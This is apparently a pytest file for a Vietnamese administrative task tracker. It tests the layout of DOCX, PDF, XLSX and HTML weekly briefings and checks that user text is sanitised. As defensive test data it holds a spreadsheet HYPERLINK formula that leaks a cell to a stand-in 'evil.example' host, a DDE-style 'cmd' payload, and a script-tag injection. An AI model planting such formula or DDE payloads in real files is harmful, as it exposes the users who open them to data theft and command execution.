"""The briefing files as their readers open them: the DOCX in the form of Nghị định 30/2020/NĐ-CP
(reopened with python-docx), the A4 PDF, the XLSX with text that stays text, and user text that
can neither reverse itself nor run as markup or a formula in any of them."""

from __future__ import annotations

import logging
import re
import stat
from datetime import datetime
from pathlib import Path

import pytest
from docx import Document
from docx.oxml.ns import qn
from docx.text.paragraph import Paragraph
from openpyxl import load_workbook
from sqlalchemy.engine import Engine
from sqlmodel import Session

from activities.briefing import FILE_STEM, FORMATS, BriefingData, PdfError, render, render_all
from activities.briefing.pdf import find_chromium, write_pdf
from activities.tally import compute
from domain.periods import parse_period
from domain.tally import tally_instant, walk
from domain.timezone import VN_TZ
from giaoviec.store.models import Official, Task, Unit
from tests.org_fixture import seed_small_org
from tests.services import need
from tests.tally.test_tally_store import CAL, RUN_AT, population

PERIOD = "2026-W47"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Mở báo cáo")'
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"


@pytest.fixture
def with_chromium() -> None:
    if find_chromium() is None:
        need("Chromium", "apt-get install chromium: no PDF to check")


@pytest.fixture
def world(engine: Engine) -> Engine:
    with Session(engine) as s:
        seed_small_org(s)
        population(s)
    return engine


def briefing(engine: Engine, unit_id: str = "tinh", *, now: datetime = RUN_AT,
             period_key: str = PERIOD, **kw: object) -> BriefingData:
    period = parse_period(period_key)
    with Session(engine) as s:
        at = tally_instant(period, now)
        roots, _ = compute(s, period, at, CAL)
        node = next(t for root in roots for t in walk(root) if t.unit.id == unit_id)
        return BriefingData.build(s, period, node, at, now, 1, CAL, {}, **kw)  # type: ignore[arg-type]


def edit(engine: Engine, model: type, key: str, **values: object) -> None:
    with Session(engine) as s:
        row = s.get(model, key)
        for name, value in values.items():
            setattr(row, name, value)
        s.add(row)
        s.commit()


def paragraphs(path: Path) -> list[Paragraph]:
    doc = Document(str(path))
    found = list(doc.paragraphs)
    for table in doc.tables:
        for row in table.rows:
            for cell in row.cells:
                found += cell.paragraphs
    return found


def find(path: Path, text: str) -> Paragraph:
    return next(p for p in paragraphs(path) if p.text == text)


def styled(p: Paragraph, *, bold: bool | None = None, italic: bool | None = None,
           size: float | None = None) -> bool:
    runs = [r for r in p.runs if r.text]
    return bool(runs) and all(
        (bold is None or r.bold == bold) and (italic is None or r.italic == italic)
        and (size is None or r.font.size.pt == size) for r in runs)


# --------------------------------------------------------------------------- DOCX (NĐ 30)


def add_chief_of_office(engine: Engine) -> None:
    with Session(engine) as s:
        s.add(Official(id="cvp", username="cvp", full_name="Trịnh Văn Phúc", unit_id="vp",
                       roles="unit_head"))
        s.add(Official(id="pcvp", username="pcvp", full_name="Mai Thị Quyên", unit_id="vp",
                       roles="deputy_head"))
        s.commit()


def test_the_docx_is_laid_out_as_decree_30_prescribes(world: Engine, tmp_path: Path) -> None:
    """The weekly kiểm đếm, issued: the Văn phòng's report to the chairman."""
    add_chief_of_office(world)
    data = briefing(world, now=datetime(2027, 1, 5, 8, tzinfo=VN_TZ), sequence=5)
    path = render("docx", data, tmp_path)
    doc = Document(str(path))
    section = doc.sections[0]
    assert round(section.page_width.mm) == 210 and round(section.page_height.mm) == 297
    assert [round(getattr(section, f"{side}_margin").mm) for side in
            ("top", "bottom", "left", "right")] == [20, 20, 30, 15]
    normal = doc.styles["Normal"]
    assert normal.font.name == "Times New Roman" and normal.font.size.pt == 14
    fonts = normal.element.rPr.rFonts
    assert {fonts.get(qn(f"w:{a}")) for a in ("ascii", "hAnsi", "eastAsia", "cs")} == {
        "Times New Roman"}

    assert styled(find(path, "UBND TỈNH THỬ NGHIỆM"), size=13)
    assert styled(find(path, "VĂN PHÒNG UBND TỈNH"), bold=True)
    assert find(path, "Số: 05/BC-VP")
    assert find(path, "Kính gửi: Chủ tịch UBND tỉnh Thử Nghiệm")
    assert "DỰ THẢO" not in [p.text for p in paragraphs(path)]
    assert styled(find(path, "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM"), bold=True, size=12)
    assert styled(find(path, "Độc lập - Tự do - Hạnh phúc"), bold=True, size=13)
    assert styled(find(path, "Thử Nghiệm, ngày 05 tháng 01 năm 2027"), italic=True)
    assert styled(find(path, "BÁO CÁO"), bold=True)
    assert styled(find(path, "Kết quả kiểm đếm nhiệm vụ tuần 47 năm 2026"), bold=True)
    assert styled(find(path, "Nơi nhận:"), bold=True, italic=True, size=12)
    assert find(path, "- Chủ tịch, các Phó Chủ tịch UBND tỉnh;") and find(path, "- Lưu: VT, VP.")
    assert styled(find(path, "CHÁNH VĂN PHÒNG"), bold=True)
    assert "TM. ỦY BAN NHÂN DÂN" not in [p.text for p in paragraphs(path)]
    assert styled(find(path, "Trịnh Văn Phúc"), bold=True)
    # Header and signature blocks are borderless two-column tables; the rules are borders.
    header, *_, footer = doc.tables
    for table in (header, footer):
        assert len(table.columns) == 2
        assert {e.get(qn("w:val")) for e in table._tbl.tblPr.find(qn("w:tblBorders"))} == {"nil"}
    ruled = [p for p in header.rows[0].cells[1].paragraphs
             if p._p.pPr is not None and p._p.pPr.find(qn("w:pBdr")) is not None]
    assert len(ruled) == 1  # under the tiêu ngữ


def test_a_commune_briefing_names_the_commune(world: Engine, tmp_path: Path) -> None:
    data = briefing(world, "xa1")
    assert data.issuer_lines == ["ỦY BAN NHÂN DÂN", "XÃ HÒA XÁ"] and data.issuer_parent == ""
    assert data.place_date == "Hòa Xá, ngày 23 tháng 11 năm 2026"
    assert data.draft and data.number == "" and data.number_line == "Số:      /BC-UBND"
    assert data.recipients == ["- Chủ tịch, các PCT UBND xã;",
                               "- Các cơ quan, đơn vị, địa phương;", "- Lưu: VT."]
    path = render("docx", data, tmp_path)
    assert styled(find(path, "XÃ HÒA XÁ"), bold=True)
    assert styled(find(path, "Hòa Xá, ngày 23 tháng 11 năm 2026"), italic=True)
    assert find(path, "TM. ỦY BAN NHÂN DÂN") and find(path, "Dương Văn Minh")


def test_a_vice_chairman_signs_for_the_chairman(world: Engine, tmp_path: Path) -> None:
    """The half-year report to the level above is the People's Committee's own."""
    data = briefing(world, signer_id="pct", period_key="2026-H2")
    assert data.number_suffix == "/BC-UBND"
    assert data.signature_lines == ["TM. ỦY BAN NHÂN DÂN", "KT. CHỦ TỊCH", "PHÓ CHỦ TỊCH"]
    path = render("docx", data, tmp_path)
    for line in ("KT. CHỦ TỊCH", "PHÓ CHỦ TỊCH", "Trần Thị Bình"):
        assert styled(find(path, line), bold=True), line
    # Without a chairman, the vice-chairman signs by default, still as KT.
    edit(world, Official, "chutich", active=False)
    assert briefing(world, period_key="2026-H2").signer_name == "Trần Thị Bình"
    assert briefing(world, period_key="2026-H2").signature_lines[1:] == [
        "KT. CHỦ TỊCH", "PHÓ CHỦ TỊCH"]


def test_a_department_briefing_is_signed_by_its_director(world: Engine) -> None:
    data = briefing(world, "snv", sequence=3)
    assert (data.issuer_parent, data.issuer_lines) == ("UBND TỈNH THỬ NGHIỆM", ["SỞ NỘI VỤ"])
    assert data.number == "03/BC-SNV"
    assert data.place_date.startswith("Thử Nghiệm, ngày 23 tháng 11 năm 2026")
    assert data.signature_lines == ["GIÁM ĐỐC"] and data.signer_name == "Phạm Thị Dung"


# --------------------------------------------------------------------------- one format at a time


def test_render_writes_exactly_the_format_asked(world: Engine, tmp_path: Path) -> None:
    data = briefing(world)
    assert FORMATS == ("html", "docx", "xlsx", "pdf")
    folder = tmp_path / "files"
    path = render("xlsx", data, folder)
    assert path == folder / f"{FILE_STEM}-{PERIOD}.xlsx"
    assert [p.name for p in folder.iterdir()] == [path.name]  # no temporary file left behind
    with pytest.raises(ValueError):
        render("odt", data, folder)


def test_without_chromium_pdf_is_refused_and_skipped(
    world: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
) -> None:
    data = briefing(world)
    empty = tmp_path / "bin"
    empty.mkdir()
    monkeypatch.setenv("PATH", str(empty))
    with pytest.raises(PdfError, match="chưa cài Chromium"):
        render("pdf", data, tmp_path / "out")
    with caplog.at_level(logging.INFO, logger="activities.briefing"):
        paths = render_all(data, tmp_path / "all")
    assert sorted(paths) == ["docx", "html", "xlsx"] and "without PDF" in caplog.text


@pytest.mark.parametrize(("script", "message"), [
    ("exec /bin/sleep 30", "không in xong sau 1 giây"),
    ("echo boom >&2; exit 3", "báo lỗi (mã 3)"),
    ("exit 0", "không tạo ra tệp PDF"),
])
def test_a_failing_chromium_gives_a_clear_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, script: str, message: str,
) -> None:
    fake = tmp_path / "bin" / "chromium"
    fake.parent.mkdir()
    fake.write_text(f"#!/bin/sh\n{script}\n")
    fake.chmod(fake.stat().st_mode | stat.S_IEXEC)
    monkeypatch.setenv("PATH", str(fake.parent))
    html = tmp_path / "b.html"
    html.write_text("<p>x</p>")
    with pytest.raises(PdfError, match=re.escape(message)):
        write_pdf(html, tmp_path / "b.pdf", timeout=1)


@pytest.mark.usefixtures("with_chromium")
def test_the_pdf_is_a4(world: Engine, tmp_path: Path) -> None:
    paths = render_all(briefing(world), tmp_path)
    assert sorted(paths) == sorted(FORMATS)
    pdf = paths["pdf"].read_bytes()
    assert pdf.startswith(b"%PDF-")
    boxes = re.findall(rb"/MediaBox\s*\[\s*([\d.]+)\s+([\d.]+)\s+([\d.]+)\s+([\d.]+)\s*\]", pdf)
    assert boxes
    for x0, y0, x1, y1 in boxes:  # A4 is 595.28 × 841.89 pt
        assert abs(float(x1) - float(x0) - 595.3) < 1.5
        assert abs(float(y1) - float(y0) - 841.9) < 1.5


# --------------------------------------------------------------------------- user text


def test_spreadsheet_text_never_becomes_a_formula(world: Engine, tmp_path: Path) -> None:
    tricks = {"c": FORMULA, "j": "@SUM(1+1)*cmd|' /C calc'!A0"}
    for task_id, title in tricks.items():
        edit(world, Task, task_id, title=title)
    edit(world, Unit, "stc", name="+Sở Tài chính")
    path = render("xlsx", briefing(world), tmp_path)
    wb = load_workbook(path)
    titles = {c.value: c for c in wb["Quá hạn"]["A"][1:]}
    assert set(titles) == set(tricks.values())
    for cell in titles.values():
        assert cell.data_type == "s" and cell.quotePrefix
    unit = next(c for c in wb["Kiểm đếm"]["A"] if c.value == "+Sở Tài chính")
    assert unit.data_type == "s"
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is not None:
                    assert cell.data_type in ("s", "n"), (ws.title, cell.coordinate)


def test_bidi_and_control_characters_reach_no_report(world: Engine, tmp_path: Path) -> None:
    edit(world, Task, "c", title=f"Rà soát {BIDI}biên chế\x07")
    edit(world, Task, "h", extension_reason="Chờ\u202e hướng dẫn\x1b[31m")
    edit(world, Official, "tccb.cb", full_name="Bùi\u2067 Thị Hoa\x00")
    edit(world, Unit, "snv", name="Sở\u202d Nội vụ\x85")
    data = briefing(world)
    folder = tmp_path / "out"
    for kind in ("html", "docx", "xlsx"):
        render(kind, data, folder)
    html = (folder / f"{FILE_STEM}-{PERIOD}.html").read_text("utf-8")
    docx = "\n".join(p.text for p in paragraphs(folder / f"{FILE_STEM}-{PERIOD}.docx"))
    wb = load_workbook(folder / f"{FILE_STEM}-{PERIOD}.xlsx")
    xlsx = "\n".join(str(c.value) for ws in wb.worksheets for row in ws.iter_rows()
                     for c in row if c.value is not None)
    bad = set(BIDI) | {chr(c) for c in (*range(0x20), *range(0x7F, 0xA0))} - {"\n", "\t"}
    for name, content in (("html", html), ("docx", docx), ("xlsx", xlsx)):
        assert not set(content) & bad, name
        for text in ("Rà soát biên chế", "Bùi Thị Hoa", "Sở Nội vụ", "Chờ hướng dẫn"):
            if name != "xlsx" or text != "Chờ hướng dẫn":  # the workbook has no reasons
                assert text in content, (name, text)


def test_html_stays_escaped(world: Engine, tmp_path: Path) -> None:
    edit(world, Task, "h", title="<script>alert(1)</script> Đề án")
    html = render("html", briefing(world), tmp_path).read_text("utf-8")
    assert "<script>" not in html and "&lt;script&gt;alert(1)&lt;/script&gt; Đề án" in html
    assert "default-src 'none'" in html  # and the page may load nothing at all
